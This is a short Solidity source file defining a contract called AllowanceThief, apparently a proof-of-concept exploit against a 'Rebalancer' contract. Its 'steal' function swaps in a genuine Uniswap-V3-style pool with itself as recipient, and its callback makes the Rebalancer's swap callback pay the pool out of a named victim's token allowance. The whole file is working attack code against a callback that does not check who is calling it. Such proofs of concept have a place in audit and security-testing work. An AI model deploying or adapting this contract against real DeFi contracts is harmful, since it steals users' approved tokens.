// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.30;

interface IGenuinePool {
    function swap(
        address recipient,
        bool zeroForOne,
        int256 amountSpecified,
        uint160 sqrtPriceLimitX96,
        bytes calldata data
    ) external returns (int256, int256);
}

interface IPayer {
    function uniswapV3SwapCallback(int256 amount0, int256 amount1, bytes calldata data) external;
}

/// @title Buys for itself in a genuine pool and has the Rebalancer pay with somebody else's allowance
contract AllowanceThief {
    struct Loot {
        IPayer rebalancer;
        address victim;
        address token;
    }

    function steal(IGenuinePool pool, bool zeroForOne, uint256 raw, uint160 limit, Loot calldata loot) external {
        pool.swap(address(this), zeroForOne, int256(raw), limit, abi.encode(loot));
    }

    function uniswapV3SwapCallback(int256 amount0, int256 amount1, bytes calldata data) external {
        Loot memory loot = abi.decode(data, (Loot));
        uint256 owed = uint256(amount0 > 0 ? amount0 : amount1);
        loot.rebalancer.uniswapV3SwapCallback(amount0, amount1, abi.encode(loot.victim, loot.token, owed));
    }
}
